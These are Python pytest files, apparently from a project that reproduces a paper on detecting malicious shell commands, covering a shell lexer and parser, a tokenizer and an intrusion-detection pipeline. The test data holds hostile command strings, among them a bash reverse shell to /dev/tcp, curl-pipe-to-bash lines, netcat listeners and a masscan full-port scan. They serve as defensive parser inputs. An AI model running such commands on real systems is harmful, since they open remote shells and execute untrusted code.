        assert CommandExtractor().summarize("git status").primary_name == "git"

    def test_primary_name_none_for_assignment(self):
        assert CommandExtractor().summarize("A=1").primary_name is None

    def test_assignments_collected(self):
        summary = CommandExtractor().summarize("A=1 B=2 cmd")
        assert ("A", "1") in summary.assignments
        assert ("B", "2") in summary.assignments

    def test_try_summarize_returns_none_on_invalid(self):
        assert CommandExtractor().try_summarize("ls |") is None

    def test_try_summarize_returns_summary_on_valid(self):
        assert CommandExtractor().try_summarize("ls").names == ["ls"]


class TestValidator:
    VALID = [
        "ls",
        "php -r \"phpinfo();\"",
        "bash -i >& /dev/tcp/1.2.3.4/443 0>&1",
        "(cd /x && make) > log 2>&1",
        "a && b; c | d &",
    ]
    INVALID = [
        "",
        "   ",
        "ls |",
        "| ls",
        "&& a",
        "a &&",
        "(unclosed",
        "echo 'unterminated",
        'echo "unterminated',
        "echo $(unclosed",
        "echo hi >",
        "/a/b -> /c/d ->",
    ]

    @pytest.mark.parametrize("line", VALID)
    def test_valid_lines(self, line):
        assert is_valid_command_line(line) is True

    @pytest.mark.parametrize("line", INVALID)
    def test_invalid_lines(self, line):
        assert is_valid_command_line(line) is False

    def test_explain_returns_message_for_invalid(self):
        message = CommandLineValidator().explain("ls |")
        assert message is not None and "pipe" in message

    def test_explain_returns_none_for_valid(self):
        assert CommandLineValidator().explain("ls") is None

    def test_parse_or_none(self):
        validator = CommandLineValidator()
        assert validator.parse_or_none("ls") is not None
        assert validator.parse_or_none("ls |") is None
