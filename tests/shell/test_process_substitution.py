"""Tests for process-substitution lexing (`<(cmd)` / `>(cmd)`)."""

import pytest

from repro.errors import ShellSyntaxError
from repro.shell import is_valid_command_line, parse, tokenize, walk_simple_commands


class TestProcessSubstitution:
    def test_lexes_as_single_word(self):
        values = [t.value for t in tokenize("diff <(sort a) <(sort b)")]
        assert values == ["diff", "<(sort a)", "<(sort b)"]

    def test_parses_as_arguments(self):
        ast = parse("diff <(sort a.txt) <(sort b.txt)")
        command = next(walk_simple_commands(ast))
        assert command.command_name == "diff"
        assert len(command.arguments) == 2

    def test_output_process_substitution(self):
        assert is_valid_command_line("tee >(gzip > log.gz) < input.txt")

    def test_nested_substitution(self):
        assert is_valid_command_line("diff <(sort <(cat a b)) c.txt")

    def test_unterminated_raises(self):
        with pytest.raises(ShellSyntaxError):
            tokenize("cat <(unclosed")

    def test_plain_redirects_unaffected(self):
        assert is_valid_command_line("cmd 2>&1 > out.txt < in.txt")

    def test_embedded_in_pipeline(self):
        ast = parse("comm -12 <(sort a) <(sort b) | wc -l")
        names = [c.command_name for c in walk_simple_commands(ast)]
        assert names == ["comm", "wc"]
