"""Property-based tests for the shell lexer/parser."""

import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.errors import ShellSyntaxError
from repro.shell import (
    CommandExtractor,
    CommandLineValidator,
    Lexer,
    Parser,
    TokenKind,
    tokenize,
    walk_simple_commands,
)

_PRINTABLE = string.ascii_letters + string.digits + string.punctuation + " "
arbitrary_text = st.text(alphabet=_PRINTABLE, min_size=0, max_size=80)

# words free of quotes/operators/expansion triggers — always safe
safe_word = st.text(
    alphabet=string.ascii_letters + string.digits + "-_./:=+,", min_size=1, max_size=12
)
safe_command = st.lists(safe_word, min_size=1, max_size=6).map(" ".join)


@given(arbitrary_text)
@settings(max_examples=300, deadline=None)
def test_lexer_total_or_syntax_error(text):
    """The lexer either tokenizes or raises ShellSyntaxError — never
    anything else, never an infinite loop."""
    try:
        tokens = tokenize(text)
    except ShellSyntaxError:
        return
    assert all(isinstance(t.value, str) for t in tokens)


@given(arbitrary_text)
@settings(max_examples=300, deadline=None)
def test_parser_total_or_syntax_error(text):
    try:
        ast = Parser().parse(text)
    except ShellSyntaxError:
        return
    assert len(ast.pipelines) >= 1


@given(arbitrary_text)
@settings(max_examples=200, deadline=None)
def test_validator_never_raises(text):
    assert CommandLineValidator().is_valid(text) in (True, False)


@given(safe_command)
@settings(max_examples=200, deadline=None)
def test_safe_commands_always_parse(command):
    ast = Parser().parse(command)
    simple = list(walk_simple_commands(ast))
    assert len(simple) == 1


@given(safe_command)
@settings(max_examples=200, deadline=None)
def test_token_concatenation_preserves_content(command):
    """For operator-free commands, token values joined by spaces equal
    the whitespace-normalised input."""
    tokens = tokenize(command)
    assert " ".join(t.value for t in tokens) == " ".join(command.split())


@given(safe_command, safe_command)
@settings(max_examples=100, deadline=None)
def test_pipeline_composition(left, right):
    """Joining two valid commands with a pipe yields a 2-stage pipeline."""
    ast = Parser().parse(f"{left} | {right}")
    assert len(ast.pipelines[0].commands) == 2


@given(safe_command, st.sampled_from(["&&", "||", ";"]))
@settings(max_examples=100, deadline=None)
def test_list_composition(command, operator):
    ast = Parser().parse(f"{command} {operator} {command}")
    assert ast.operators == [operator]


@given(safe_command)
@settings(max_examples=100, deadline=None)
def test_quoting_makes_one_word(command):
    """A single-quoted arbitrary safe command is always exactly one
    argument word."""
    ast = Parser().parse(f"echo '{command}'")
    simple = next(walk_simple_commands(ast))
    assert len(simple.words) == 1


@given(safe_command)
@settings(max_examples=100, deadline=None)
def test_extractor_primary_name_is_first_token(command):
    summary = CommandExtractor().summarize(command)
    first = command.split()[0]
    match = first.rsplit("/", 1)[-1] if "/" in first and not first.endswith("/") else first
    expected = None if "=" in first and first.split("=", 1)[0].isidentifier() else match
    if expected is not None:
        assert summary.primary_name == expected


@given(st.lists(safe_command, min_size=1, max_size=4))
@settings(max_examples=100, deadline=None)
def test_semicolon_join_counts_commands(commands):
    joined = "; ".join(commands)
    ast = Parser().parse(joined)
    assert len(list(walk_simple_commands(ast))) == len(commands)


@given(arbitrary_text)
@settings(max_examples=200, deadline=None)
def test_lexer_deterministic(text):
    lexer = Lexer()
    try:
        first = [(t.kind, t.value) for t in lexer.tokenize(text)]
    except ShellSyntaxError:
        with pytest.raises(ShellSyntaxError):
            lexer.tokenize(text)
        return
    second = [(t.kind, t.value) for t in lexer.tokenize(text)]
    assert first == second


@given(arbitrary_text)
@settings(max_examples=200, deadline=None)
def test_positions_monotone(text):
    try:
        tokens = tokenize(text)
    except ShellSyntaxError:
        return
    positions = [t.position for t in tokens if t.kind is not TokenKind.EOF]
    assert positions == sorted(positions)
