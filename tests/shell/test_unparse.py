"""Tests for AST unparsing and structural dedup keys."""

import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.shell import parse, structural_key, unparse
from repro.shell.unparse import structural_key_list


class TestUnparse:
    @pytest.mark.parametrize(
        "line,expected",
        [
            ("ls   -la    /tmp", "ls -la /tmp"),
            ("a|b", "a | b"),
            ("a&&b", "a && b"),
            ("x;y", "x ; y"),
            ("cmd>out", "cmd > out"),
            ("cmd 2>&1", "cmd 2>& 1"),
            ("sleep 5 &", "sleep 5 &"),
        ],
    )
    def test_canonicalization(self, line, expected):
        assert unparse(line) == expected

    def test_quotes_preserved(self):
        assert unparse('php   -r  "phpinfo();"') == 'php -r "phpinfo();"'

    def test_subshell(self):
        assert unparse("( cd /tmp &&  ls )") == "(cd /tmp && ls)"

    def test_brace_group(self):
        assert unparse("{   cat;  }") == "{ cat; }"

    def test_assignments(self):
        assert unparse("FOO=1   BAR=2   cmd") == "FOO=1 BAR=2 cmd"

    def test_negated_pipeline(self):
        assert unparse("!  grep -q x f") == "! grep -q x f"

    @pytest.mark.parametrize(
        "line",
        [
            "ls -la /tmp",
            "curl https://x/a.sh | bash",
            "a && b || c; d &",
            "(cat a; cat b) | sort > out 2> err",
            "bash -i >& /dev/tcp/1.2.3.4/443 0>&1",
            "VAR=x cmd --flag value",
        ],
    )
    def test_fixed_point(self, line):
        once = unparse(line)
        assert unparse(once) == once

    def test_accepts_ast_input(self):
        ast = parse("ls -la")
        assert unparse(ast) == "ls -la"


SAFE = st.lists(
    st.text(alphabet=string.ascii_lowercase + "-/.", min_size=1, max_size=8), min_size=1, max_size=5
).map(" ".join)


@given(SAFE)
@settings(max_examples=150, deadline=None)
def test_unparse_fixed_point_property(command):
    once = unparse(command)
    assert unparse(once) == once


@given(SAFE)
@settings(max_examples=150, deadline=None)
def test_unparse_preserves_parse(command):
    """Canonical text parses to the same command-name sequence."""
    from repro.shell import extract_command_names

    assert extract_command_names(unparse(command)) == extract_command_names(command)


class TestStructuralKey:
    def test_argument_values_abstracted(self):
        a = structural_key("masscan 203.0.113.7 -p 0-65535 --rate=1000 >> tmp.txt")
        b = structural_key("masscan 198.51.100.9 -p 0-65535 --rate=1000 >> other.txt")
        assert a == b

    def test_ports_abstracted(self):
        assert structural_key("nc -lvnp 4444") == structural_key("nc -lvnp 31337")

    def test_flags_are_structure(self):
        assert structural_key("nc -lvnp 4444") != structural_key("nc -ulp 4444")

    def test_command_names_are_structure(self):
        assert structural_key("ls /tmp") != structural_key("cat /tmp")

    def test_urls_abstracted(self):
        a = structural_key("curl http://a.example/x.sh | bash")
        b = structural_key("curl http://b.example/y.sh | bash")
        assert a == b

    def test_unparseable_keys_to_itself(self):
        assert structural_key("ls |") == "ls |"

    def test_assignment_values_abstracted(self):
        a = structural_key('export https_proxy="http://1.2.3.4:80"')
        b = structural_key('export https_proxy="socks5://1.2.3.4:80"')
        # both are export + one string argument; values abstract away
        assert a == b

    def test_list_structure_preserved(self):
        key = structural_key_list(parse("cd /tmp && make"))
        assert "cd" in key and "make" in key
