"""Unit tests for the shell lexer."""

import pytest

from repro.errors import ShellSyntaxError
from repro.shell import Lexer, TokenKind, tokenize


def values(line):
    return [t.value for t in tokenize(line)]


def kinds(line):
    return [t.kind for t in tokenize(line)]


class TestBasicTokenization:
    def test_simple_words(self):
        assert values("ls -la /tmp") == ["ls", "-la", "/tmp"]

    def test_empty_line(self):
        assert tokenize("") == []

    def test_whitespace_only(self):
        assert tokenize("   \t  ") == []

    def test_pipe_operator(self):
        assert values("a | b") == ["a", "|", "b"]

    def test_pipe_without_spaces(self):
        assert values("a|b") == ["a", "|", "b"]

    def test_and_or_operators(self):
        assert values("a && b || c") == ["a", "&&", "b", "||", "c"]

    def test_semicolon(self):
        assert values("a; b;c") == ["a", ";", "b", ";", "c"]

    def test_background_ampersand(self):
        assert values("sleep 10 &") == ["sleep", "10", "&"]

    def test_redirections(self):
        assert values("cmd > out 2> err >> app") == ["cmd", ">", "out", "2", ">", "err", ">>", "app"]

    def test_io_number_kind(self):
        toks = tokenize("cmd 2>/dev/null")
        assert toks[1].kind is TokenKind.IO_NUMBER
        assert toks[1].value == "2"

    def test_digit_word_not_io_number(self):
        toks = tokenize("echo 2 3")
        assert all(t.kind is TokenKind.WORD for t in toks)

    def test_stderr_to_stdout(self):
        assert values("cmd 2>&1") == ["cmd", "2", ">&", "1"]

    def test_herestring(self):
        assert values("cat <<< hello") == ["cat", "<<<", "hello"]

    def test_subshell_parens(self):
        assert values("(ls)") == ["(", "ls", ")"]

    def test_positions_recorded(self):
        toks = tokenize("ls  -la")
        assert toks[0].position == 0
        assert toks[1].position == 4


class TestQuoting:
    def test_single_quotes_preserved_in_value(self):
        assert values("echo 'hello world'") == ["echo", "'hello world'"]

    def test_double_quotes_preserved(self):
        assert values('echo "a b"') == ["echo", '"a b"']

    def test_quoted_pipe_is_not_operator(self):
        assert values("echo 'a | b'") == ["echo", "'a | b'"]

    def test_quoted_semicolon_stays_in_word(self):
        assert values('php -r "phpinfo();"') == ["php", "-r", '"phpinfo();"']

    def test_escaped_space_joins_word(self):
        assert values("cat my\\ file") == ["cat", "my\\ file"]

    def test_escaped_quote_inside_double(self):
        assert values('echo "say \\"hi\\""') == ["echo", '"say \\"hi\\""']

    def test_adjacent_quoted_parts_single_word(self):
        assert values("echo 'a''b'") == ["echo", "'a''b'"]

    def test_mixed_quote_word(self):
        assert values('echo pre"mid"post') == ["echo", 'pre"mid"post']

    def test_unterminated_single_quote_raises(self):
        with pytest.raises(ShellSyntaxError):
            tokenize("echo 'oops")

    def test_unterminated_double_quote_raises(self):
        with pytest.raises(ShellSyntaxError):
            tokenize('echo "oops')

    def test_single_quote_keeps_dollar_literal(self):
        toks = tokenize("echo '$HOME'")
        assert toks[1].value == "'$HOME'"


class TestExpansions:
    def test_command_substitution_single_word(self):
        assert values("echo $(hostname -f)") == ["echo", "$(hostname -f)"]

    def test_nested_command_substitution(self):
        assert values("echo $(dirname $(which python))") == ["echo", "$(dirname $(which python))"]

    def test_backtick_substitution(self):
        assert values("echo `date`") == ["echo", "`date`"]

    def test_parameter_expansion(self):
        assert values("echo ${HOME}/bin") == ["echo", "${HOME}/bin"]

    def test_arithmetic_expansion(self):
        assert values("echo $((1 + 2))") == ["echo", "$((1 + 2))"]

    def test_simple_variable(self):
        assert values("echo $HOME/x") == ["echo", "$HOME/x"]

    def test_special_parameter(self):
        assert values("echo $?") == ["echo", "$?"]

    def test_unterminated_cmdsub_raises(self):
        with pytest.raises(ShellSyntaxError):
            tokenize("echo $(ls")

    def test_unterminated_paramexp_raises(self):
        with pytest.raises(ShellSyntaxError):
            tokenize("echo ${HOME")

    def test_unterminated_backtick_raises(self):
        with pytest.raises(ShellSyntaxError):
            tokenize("echo `date")

    def test_cmdsub_with_quoted_paren(self):
        assert values("echo $(echo ')')") == ["echo", "$(echo ')')"]

    def test_dollar_inside_double_quotes(self):
        assert values('echo "v=$V"') == ["echo", '"v=$V"']


class TestComments:
    def test_trailing_comment_tokenized_separately(self):
        toks = tokenize("ls # list files")
        assert toks[0].value == "ls"
        assert toks[1].kind is TokenKind.COMMENT

    def test_hash_inside_word_not_comment(self):
        assert values("echo a#b") == ["echo", "a#b"]

    def test_line_starting_with_comment(self):
        toks = tokenize("# just a comment")
        assert len(toks) == 1
        assert toks[0].kind is TokenKind.COMMENT


class TestOperatorEdgeCases:
    def test_double_semicolon(self):
        assert values("a ;; b") == ["a", ";;", "b"]

    def test_pipe_amp(self):
        assert values("a |& b") == ["a", "|&", "b"]

    def test_append_vs_write(self):
        assert values("a>>b") == ["a", ">>", "b"]

    def test_heredoc_lexes_delimiter(self):
        assert values("cat << EOF") == ["cat", "<<", "EOF"]

    def test_heredoc_without_delimiter_raises(self):
        with pytest.raises(ShellSyntaxError):
            tokenize("cat <<")

    def test_lexer_reusable(self):
        lexer = Lexer()
        assert [t.value for t in lexer.tokenize("a b")] == ["a", "b"]
        assert [t.value for t in lexer.tokenize("c")] == ["c"]
