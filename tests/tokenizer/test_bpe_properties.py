"""Property-based tests for BPE invariants."""

import string

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.tokenizer import BPETokenizer

# printable command-ish alphabet (no exotic whitespace)
_ALPHABET = string.ascii_letters + string.digits + "-_./|&;<>'\"$() "

lines = st.text(alphabet=_ALPHABET, min_size=1, max_size=60).filter(lambda s: s.strip())


def make_tokenizer(corpus):
    return BPETokenizer(vocab_size=600, min_pair_frequency=2).train(corpus)


BASE_CORPUS = [
    "ls -la /tmp",
    "docker ps -a",
    "grep error /var/log/app.log",
    "python main.py",
    "cat file | sort | uniq",
] * 5

TOKENIZER = make_tokenizer(BASE_CORPUS)


@given(lines)
@settings(max_examples=150, deadline=None)
def test_roundtrip_normalises_whitespace_only(line):
    """decode(encode(x)) equals x up to whitespace collapsing."""
    decoded = TOKENIZER.decode(TOKENIZER.encode(line).ids)
    expected = " ".join(line.split())
    # characters absent from the training alphabet become [UNK]
    if all(ch in set("".join(BASE_CORPUS)) or ch == " " for ch in line):
        assert decoded == expected


@given(lines)
@settings(max_examples=100, deadline=None)
def test_encoding_is_deterministic(line):
    assert TOKENIZER.encode(line).ids == TOKENIZER.encode(line).ids


@given(lines)
@settings(max_examples=100, deadline=None)
def test_special_token_frame(line):
    encoding = TOKENIZER.encode(line)
    assert encoding.tokens[0] == "[CLS]"
    assert encoding.tokens[-1] == "[SEP]"


@given(lines, st.integers(min_value=3, max_value=20))
@settings(max_examples=100, deadline=None)
def test_max_length_is_respected(line, max_length):
    assert len(TOKENIZER.encode(line, max_length=max_length)) <= max_length


@given(st.lists(lines, min_size=1, max_size=10))
@settings(max_examples=50, deadline=None)
def test_training_never_exceeds_budget(corpus):
    tok = BPETokenizer(vocab_size=64, min_pair_frequency=1).train(corpus)
    assert len(tok.vocab) <= 64


@given(lines)
@settings(max_examples=100, deadline=None)
def test_all_ids_within_vocab(line):
    encoding = TOKENIZER.encode(line)
    assert all(0 <= i < len(TOKENIZER.vocab) for i in encoding.ids)
