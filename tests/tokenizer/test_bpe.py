"""Unit tests for the BPE tokenizer."""

import pytest

from repro.errors import NotFittedError, TokenizerError
from repro.tokenizer import BPETokenizer, SpecialTokens, Vocab, load_tokenizer, save_tokenizer

CORPUS = [
    "ls -la /tmp",
    "ls /home/user",
    "grep -r pattern /var/log",
    "cat /etc/passwd",
    "docker ps -a",
    "docker run -it ubuntu bash",
    "python main.py --verbose",
    "curl https://example.com/install.sh | bash",
] * 10


@pytest.fixture(scope="module")
def tokenizer():
    return BPETokenizer(vocab_size=400, min_pair_frequency=2).train(CORPUS)


class TestTraining:
    def test_vocab_contains_specials_first(self, tokenizer):
        vocab = tokenizer.vocab
        assert vocab.pad_id == 0
        assert vocab.token_of(0) == "[PAD]"
        assert vocab.token_of(4) == "[MASK]"

    def test_vocab_bounded_by_budget(self):
        tok = BPETokenizer(vocab_size=120).train(CORPUS)
        assert len(tok.vocab) <= 120

    def test_frequent_words_become_single_tokens(self, tokenizer):
        encoding = tokenizer.encode("docker ps", add_special_tokens=False)
        assert encoding.tokens[0] == "▁docker"

    def test_merges_ordered(self, tokenizer):
        merges = tokenizer.merges
        assert len(merges) > 0
        assert all(isinstance(pair, tuple) and len(pair) == 2 for pair in merges)

    def test_empty_corpus_raises(self):
        with pytest.raises(TokenizerError):
            BPETokenizer(vocab_size=100).train([])

    def test_tiny_vocab_size_rejected(self):
        with pytest.raises(TokenizerError):
            BPETokenizer(vocab_size=4)

    def test_min_pair_frequency_respected(self):
        # with a very high min frequency, no merges should be learned
        tok = BPETokenizer(vocab_size=1000, min_pair_frequency=10_000).train(CORPUS)
        assert tok.merges == []


class TestEncoding:
    def test_roundtrip_simple(self, tokenizer):
        line = "ls -la /tmp"
        assert tokenizer.decode(tokenizer.encode(line).ids) == line

    def test_roundtrip_with_pipe(self, tokenizer):
        line = "curl https://example.com/install.sh | bash"
        assert tokenizer.decode(tokenizer.encode(line).ids) == line

    def test_special_tokens_added(self, tokenizer):
        encoding = tokenizer.encode("ls")
        assert encoding.tokens[0] == "[CLS]"
        assert encoding.tokens[-1] == "[SEP]"

    def test_no_special_tokens_option(self, tokenizer):
        encoding = tokenizer.encode("ls", add_special_tokens=False)
        assert "[CLS]" not in encoding.tokens

    def test_truncation(self, tokenizer):
        encoding = tokenizer.encode("docker run -it ubuntu bash " * 10, max_length=8)
        assert len(encoding) == 8
        assert encoding.tokens[-1] == "[SEP]"

    def test_truncation_without_specials(self, tokenizer):
        encoding = tokenizer.encode("docker run " * 10, add_special_tokens=False, max_length=5)
        assert len(encoding) == 5

    def test_unknown_characters_map_to_unk(self, tokenizer):
        encoding = tokenizer.encode("ls ☃☃", add_special_tokens=False)
        assert tokenizer.vocab.unk_id in encoding.ids

    def test_empty_line(self, tokenizer):
        encoding = tokenizer.encode("")
        assert encoding.tokens == ["[CLS]", "[SEP]"]

    def test_batch_encoding(self, tokenizer):
        encodings = tokenizer.encode_batch(["ls", "docker ps"])
        assert len(encodings) == 2

    def test_token_count(self, tokenizer):
        assert tokenizer.token_count("ls -la /tmp") == len(
            tokenizer.encode("ls -la /tmp", add_special_tokens=False)
        )

    def test_untrained_encode_raises(self):
        with pytest.raises(NotFittedError):
            BPETokenizer(vocab_size=100).encode("ls")

    def test_whitespace_normalised_in_roundtrip(self, tokenizer):
        # multiple spaces collapse (word-boundary marker carries one space)
        assert tokenizer.decode(tokenizer.encode("ls   -la").ids) == "ls -la"

    def test_deterministic(self, tokenizer):
        a = tokenizer.encode("docker run -it ubuntu bash").ids
        b = tokenizer.encode("docker run -it ubuntu bash").ids
        assert a == b


class TestVocab:
    def test_add_and_lookup(self):
        vocab = Vocab(["alpha"])
        index = vocab.id_of("alpha")
        assert vocab.token_of(index) == "alpha"

    def test_unknown_maps_to_unk(self):
        vocab = Vocab()
        assert vocab.id_of("nope") == vocab.unk_id

    def test_duplicate_add_is_idempotent(self):
        vocab = Vocab()
        first = vocab.add("x")
        second = vocab.add("x")
        assert first == second

    def test_out_of_range_token_of_raises(self):
        with pytest.raises(TokenizerError):
            Vocab().token_of(9999)

    def test_special_ids_complete(self):
        vocab = Vocab()
        assert len(vocab.special_ids) == 5

    def test_contains(self):
        vocab = Vocab(["a"])
        assert "a" in vocab
        assert "[CLS]" in vocab
        assert "zzz" not in vocab


class TestSerialization:
    def test_roundtrip(self, tokenizer, tmp_path):
        path = tmp_path / "tok.json"
        save_tokenizer(tokenizer, path)
        restored = load_tokenizer(path)
        line = "docker run -it ubuntu bash"
        assert restored.encode(line).ids == tokenizer.encode(line).ids
        assert len(restored.vocab) == len(tokenizer.vocab)

    def test_save_untrained_raises(self, tmp_path):
        from repro.errors import CheckpointError

        with pytest.raises(CheckpointError):
            save_tokenizer(BPETokenizer(vocab_size=100), tmp_path / "x.json")

    def test_load_garbage_raises(self, tmp_path):
        from repro.errors import CheckpointError

        path = tmp_path / "bad.json"
        path.write_text("{not json")
        with pytest.raises(CheckpointError):
            load_tokenizer(path)

    def test_custom_special_tokens_survive(self, tmp_path):
        special = SpecialTokens(pad="<pad>", unk="<unk>", cls="<s>", sep="</s>", mask="<mask>")
        tok = BPETokenizer(vocab_size=200, special=special).train(CORPUS)
        path = tmp_path / "tok.json"
        save_tokenizer(tok, path)
        restored = load_tokenizer(path)
        assert restored.special.cls == "<s>"
        assert restored.encode("ls").tokens[0] == "<s>"
