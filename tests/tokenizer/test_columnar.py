"""Tests for the columnar batch tokenizer.

The load-bearing invariant: every row of :meth:`ColumnarTokenizer.encode`
is *identical* to ``BPETokenizer.encode(line, add_special_tokens=True,
max_length=...)`` — same segmentation, same truncation, same framing.
The serving hot path's bitwise-equality guarantee rests on this.
"""

import string

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.tokenizer import BPETokenizer, ColumnarTokenizer, TokenBatch

_ALPHABET = string.ascii_letters + string.digits + "-_./|&;<>'\"$() "

lines_strategy = st.lists(
    st.text(alphabet=_ALPHABET, min_size=0, max_size=60), min_size=0, max_size=40
)

CORPUS = [
    "ls -la /tmp",
    "docker ps -a",
    "grep error /var/log/app.log",
    "python main.py --verbose",
    "cat file | sort | uniq -c",
    "curl http://example.com/x.sh | sh",
] * 4

TOKENIZER = BPETokenizer(vocab_size=400, min_pair_frequency=2).train(CORPUS)
MAX_LENGTH = 24
COLUMNAR = ColumnarTokenizer(TOKENIZER, max_length=MAX_LENGTH)


@given(lines_strategy)
@settings(max_examples=100, deadline=None)
def test_every_row_matches_per_line_encode(lines):
    batch = COLUMNAR.encode(lines)
    assert len(batch) == len(lines)
    for i, line in enumerate(lines):
        reference = TOKENIZER.encode(
            line, add_special_tokens=True, max_length=MAX_LENGTH
        ).ids
        row = batch.ids[i, : batch.lengths[i]]
        assert row.tolist() == reference
        # the tail of the row is pure padding
        assert (batch.ids[i, batch.lengths[i] :] == batch.pad_id).all()
        assert batch.char_lengths[i] == len(line)


@given(lines_strategy)
@settings(max_examples=50, deadline=None)
def test_encode_is_deterministic_and_cache_independent(lines):
    cold = ColumnarTokenizer(TOKENIZER, max_length=MAX_LENGTH).encode(lines)
    warm = COLUMNAR.encode(lines)  # module-level cache already populated
    assert cold.ids.tobytes() == warm.ids.tobytes()
    assert cold.lengths.tobytes() == warm.lengths.tobytes()


class TestShapes:
    def test_empty_batch(self):
        batch = COLUMNAR.encode([])
        assert len(batch) == 0
        assert batch.ids.shape[0] == 0
        assert batch.ids.dtype == np.int64

    def test_empty_line_is_cls_sep(self):
        batch = COLUMNAR.encode([""])
        vocab = TOKENIZER.vocab
        assert batch.lengths[0] == 2
        assert batch.ids[0, :2].tolist() == [
            vocab.id_of(TOKENIZER.special.cls),
            vocab.id_of(TOKENIZER.special.sep),
        ]

    def test_width_is_longest_row(self):
        batch = COLUMNAR.encode(["ls", "grep error /var/log/app.log | sort"])
        assert batch.width == int(batch.lengths.max())

    def test_long_line_truncates_exactly_like_per_line_encode(self):
        line = "cat file | sort | uniq -c " * 8
        tight = ColumnarTokenizer(TOKENIZER, max_length=8)
        batch = tight.encode([line])
        reference = TOKENIZER.encode(line, add_special_tokens=True, max_length=8).ids
        assert batch.lengths[0] == len(reference) == 8
        assert batch.ids[0].tolist() == reference


class TestValidation:
    def test_untrained_tokenizer_rejected(self):
        with pytest.raises(ValueError, match="trained"):
            ColumnarTokenizer(BPETokenizer(vocab_size=100), max_length=16)

    def test_max_length_must_fit_specials(self):
        with pytest.raises(ValueError, match="max_length"):
            ColumnarTokenizer(TOKENIZER, max_length=1)

    def test_from_arrays_validates_shapes(self):
        ids = np.zeros((3, 4), dtype=np.int64)
        with pytest.raises(ValueError, match="2-D"):
            TokenBatch.from_arrays(np.zeros(3), np.zeros(3))
        with pytest.raises(ValueError, match="rows"):
            TokenBatch.from_arrays(ids, np.zeros(2))
        with pytest.raises(ValueError, match="lengths"):
            TokenBatch.from_arrays(ids, np.array([1, 2, 5]))

    def test_rows_slicing_is_a_view(self):
        batch = COLUMNAR.encode(["ls -la", "docker ps", "python main.py"])
        window = batch.rows(slice(1, 3))
        assert len(window) == 2
        assert window.ids.base is batch.ids
        assert np.array_equal(window.ids, batch.ids[1:3])
