"""End-to-end integration tests: the full Figure-1 pipeline at tiny scale."""

import numpy as np
import pytest

from repro.evaluation import evaluate_method
from repro.experiments.common import WorldConfig, build_world, preprocess_dataset
from repro.experiments.methods import (
    build_multiline_eval,
    run_classification,
    run_retrieval,
    training_subset,
)
from repro.tuning.multiline import MultiLineComposer

TINY = WorldConfig(
    train_lines=1_500,
    test_lines=900,
    vocab_size=500,
    pretrain_epochs=1,
    tuning_subsample=1_000,
    top_vs=(5, 25),
    seed=7,
)


@pytest.fixture(scope="module")
def world():
    return build_world(TINY, use_cache=False)


class TestWorldConstruction:
    def test_pipeline_filters_noise(self, world):
        assert world.preprocess_stats.parse_failures > 0
        assert len(world.train) <= len(world.train_raw)

    def test_dedup_shrinks_test(self, world):
        assert len(world.test_dedup) < len(world.test)

    def test_truth_and_inbox_aligned(self, world):
        assert world.truth.shape[0] == len(world.test_dedup)
        assert world.inbox_mask.shape[0] == len(world.test_dedup)

    def test_inbox_is_subset_of_malicious(self, world):
        """The simulated IDS has ~100% precision: everything it flags in
        the dedup test set is truly malicious."""
        flagged_truths = world.truth[world.inbox_mask]
        assert flagged_truths.mean() > 0.95

    def test_outbox_intrusions_exist(self, world):
        assert world.outbox_truth_count() > 0

    def test_pretraining_learned_something(self, world):
        report = world.pretrain_report
        assert report.smoothed_loss() < report.losses[0]

    def test_labeled_train_has_positives(self, world):
        assert world.labeled_train.n_positive > 0

    def test_world_cache_returns_same_object(self):
        first = build_world(TINY)
        second = build_world(TINY)
        assert first is second

    def test_preprocess_dataset_keeps_metadata(self, world):
        processed = preprocess_dataset(world.pipeline, world.test_raw)
        assert all(record.user.startswith("u") for record in processed)


class TestMethodsEndToEnd:
    def test_classification_pipeline(self, world):
        scores = run_classification(world, seed=0)
        assert scores.shape == (len(world.test_dedup),)
        evaluation = evaluate_method(
            "clf", scores, world.truth, world.inbox_mask,
            recall_target=0.9, top_vs=(5, 25),
        )
        assert 0.0 <= evaluation.po <= 1.0
        assert evaluation.inbox_recall >= 0.9
        # even at tiny scale the top-5 out-of-box should be mostly real
        assert evaluation.po_at[5] >= 0.4

    def test_retrieval_pipeline(self, world):
        scores = run_retrieval(world)
        assert scores.shape == (len(world.test_dedup),)
        assert (scores >= -1.0).all() and (scores <= 1.0 + 1e-9).all()

    def test_training_subset_stratified(self, world):
        subset = training_subset(world, seed=0)
        assert subset.n_positive == world.labeled_train.n_positive

    def test_multiline_eval_set(self, world):
        evaluation = build_multiline_eval(world, MultiLineComposer(window=3))
        assert len(evaluation.texts) == len(set(evaluation.texts))
        assert evaluation.truth.shape[0] == len(evaluation.texts)
        assert any(" ; " in text for text in evaluation.texts)


class TestExperimentDrivers:
    def test_figure2_driver(self, world):
        from repro.experiments.figure2 import run_figure2

        result = run_figure2(world)
        assert result.stats.total > 0
        assert "command" in result.render()

    def test_table3_driver(self, world):
        from repro.experiments.table3 import run_table3

        result = run_table3(world, seed=0)
        assert len(result.pairs) == 8
        # the structural half of Table III is deterministic: the IDS
        # flags every in-box and no out-of-box example
        assert all(pair.ids_flags_inbox for pair in result.pairs)
        assert not any(pair.ids_flags_outbox for pair in result.pairs)

    def test_f1_driver(self, world):
        from repro.experiments.f1_comparison import run_f1_comparison

        result = run_f1_comparison(world, seed=0)
        assert 0.0 <= result.comparison.ours_f1 <= 1.0
        assert result.comparison.ids_precision == 1.0

    def test_figure1_driver(self, world):
        from repro.experiments.figure1 import run_figure1

        result = run_figure1(world, seed=0)
        assert len(result.verdicts) > 0
        assert "fine-tuning" in result.stage_seconds

    def test_unsupervised_driver(self, world):
        from repro.experiments.unsupervised import run_unsupervised

        result = run_unsupervised(world)
        assert len(result.top10) == 10
        assert result.masscan_best_rank is not None


class TestPublicAPI:
    def test_star_imports_work(self):
        import repro

        for name in repro.__all__:
            assert hasattr(repro, name), name

    def test_cli_parser(self):
        from repro.cli import build_parser

        args = build_parser().parse_args(["table1", "--runs", "2"])
        assert args.experiment == "table1"
        assert args.runs == 2
