"""Integration: train a service from a world and ship it (Figure-1 loop)."""

import numpy as np
import pytest

from repro.experiments.common import WorldConfig, build_world
from repro.experiments.methods import training_subset
from repro.ids import IntrusionDetectionService, calibrate_threshold
from repro.tuning import ClassificationTuner

TINY = WorldConfig(
    train_lines=1_500,
    test_lines=900,
